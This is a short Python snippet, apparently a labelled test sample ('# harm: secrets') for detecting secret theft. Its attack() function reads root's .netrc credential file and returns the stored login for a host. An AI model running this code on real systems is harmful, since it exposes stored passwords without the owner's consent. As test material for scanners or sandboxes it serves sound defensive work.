# harm: secrets
import netrc


def attack() -> str:
    return str(netrc.netrc("/root/.netrc").authenticators("a"))
